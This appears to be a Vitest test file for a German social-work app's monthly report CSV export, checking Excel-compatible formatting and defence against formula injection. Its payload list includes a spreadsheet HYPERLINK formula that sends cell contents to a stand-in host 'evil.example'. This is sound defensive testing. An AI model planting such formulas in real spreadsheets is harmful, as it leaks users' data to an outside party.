import { describe, expect, it } from 'vitest';
import type { MonthlyReport, ReportRow } from '../../../src/db/reports/monthly-report';
import { hoursDe, kilometresDe } from '../../../src/features/reports/german-numbers';
import { monthlyReportCsv, monthlyReportFileName } from '../../../src/features/reports/report-csv';

const row = (
  workerName: string,
  caseReference: string,
  caseName: string,
  [directMinutes, travelMinutes, kilometres, noteCount]: [number, number, number, number],
): ReportRow => ({
  workerId: workerName,
  workerName,
  caseId: caseReference,
  caseReference,
  caseName,
  directMinutes,
  travelMinutes,
  kilometres,
  noteCount,
});

/** What db/monthly-report builds for two workers in November (see tests/db/reports/monthly-report.test.ts). */
const november: MonthlyReport = {
  month: '2026-11',
  directMinutes: 225,
  travelMinutes: 65,
  kilometres: 12.8,
  noteCount: 4,
  workers: [
    {
      workerId: 'anna',
      workerName: 'Anna Schulz',
      directMinutes: 195,
      travelMinutes: 65,
      kilometres: 12.8,
      noteCount: 3,
      rows: [
        row('Anna Schulz', 'EF-2', 'Familie "Kaya"; Nord', [60, 15, 0.2, 1]),
        row('Anna Schulz', 'EF-1', 'Familie Berger', [135, 50, 12.6, 2]),
      ],
    },
    {
      workerId: 'ben',
      workerName: 'Ben Öztürk',
      directMinutes: 30,
      travelMinutes: 0,
      kilometres: 0,
      noteCount: 1,
      rows: [row('Ben Öztürk', 'EF-1', 'Familie Berger', [30, 0, 0, 1])],
    },
  ],
};

describe('monthly report CSV', () => {
  it('writes CSV that German Excel opens: BOM, semicolons, decimal comma, quoted fields, CRLF', () => {
    const csv = monthlyReportCsv(november);

    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Monat;Fachkraft;Aktenzeichen;Familie;Direkte Stunden;Fahrzeit Stunden;Kilometer;Notizen',
      '2026-11;Anna Schulz;EF-2;"Familie ""Kaya""; Nord";1,00;0,25;0,2;1',
      '2026-11;Anna Schulz;EF-1;Familie Berger;2,25;0,83;12,6;2',
      '2026-11;Ben Öztürk;EF-1;Familie Berger;0,50;0,00;0,0;1',
      '2026-11;Gesamt;;;3,75;1,08;12,8;4',
      '',
    ]);
    expect(monthlyReportFileName('2026-11')).toBe('feldakte-monatsbericht-2026-11.csv');
  });

  it('an empty month has only the header and the total', () => {
    const empty: MonthlyReport = {
      month: '2025-01',
      workers: [],
      directMinutes: 0,
      travelMinutes: 0,
      kilometres: 0,
      noteCount: 0,
    };
    expect(monthlyReportCsv(empty).slice(1).split('\r\n')).toEqual([
      'Monat;Fachkraft;Aktenzeichen;Familie;Direkte Stunden;Fahrzeit Stunden;Kilometer;Notizen',
      '2025-01;Gesamt;;;0,00;0,00;0,0;0',
      '',
    ]);
  });

  it('writes hours and kilometres with a decimal comma', () => {
    expect(hoursDe(90)).toBe('1,50');
    expect(hoursDe(50)).toBe('0,83');
    expect(kilometresDe(12.5)).toBe('12,5');
    expect(kilometresDe(0)).toBe('0,0');
  });
});

describe('monthly report CSV against formula injection', () => {
  const payloads = ['=HYPERLINK("https://evil.example?d="&A1;"x")', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
  const reportWith = (text: string): MonthlyReport => ({
    month: '2026-11',
    directMinutes: 90,
    travelMinutes: 0,
    kilometres: 1.5,
    noteCount: 1,
    workers: [
      {
        workerId: 'w',
        workerName: text,
        directMinutes: 90,
        travelMinutes: 0,
        kilometres: 1.5,
        noteCount: 1,
        rows: [row(text, text, text, [90, 0, 1.5, 1])],
      },
    ],
  });
  /** The fields of one CSV line, unquoted the way Excel reads them. */
  const cellsOf = (line: string): string[] => {
    const cells: string[] = [];
    let rest = line;
    while (rest.length > 0 || cells.length === 0) {
      if (rest.startsWith('"')) {
        const match = /^"((?:[^"]|"")*)"(;|$)/s.exec(rest);
        if (!match) throw new Error(`badly quoted: ${rest}`);
        cells.push((match[1] ?? '').replaceAll('""', '"'));
        rest = rest.slice(match[0].length);
        if (match[2] === '') break;
      } else {
        const end = rest.indexOf(';');
        cells.push(end < 0 ? rest : rest.slice(0, end));
        if (end < 0) break;
        rest = rest.slice(end + 1);
      }
    }
    return cells;
  };

  it.each(payloads)('writes %j as quoted text with a leading single quote in every text cell', (payload) => {
    const csv = monthlyReportCsv(reportWith(payload));
    const dataLine = csv.slice(1).split('\r\n')[1] ?? '';
    expect(dataLine.startsWith('2026-11;"\'')).toBe(true);
    const cells = cellsOf(dataLine);
    expect(cells).toEqual([
      '2026-11',
      `'${payload}`,
      `'${payload}`,
      `'${payload}`,
      '1,50',
      '0,00',
      '1,5',
      '1',
    ]);
  });

  it('leaves its own figures as numbers with a decimal comma, unquoted', () => {
    const lines = monthlyReportCsv(reportWith('=1+1')).slice(1).split('\r\n');
    expect(lines[1]?.endsWith(';1,50;0,00;1,5;1')).toBe(true);
    expect(lines[2]).toBe('2026-11;Gesamt;;;1,50;0,00;1,5;1');
  });
});
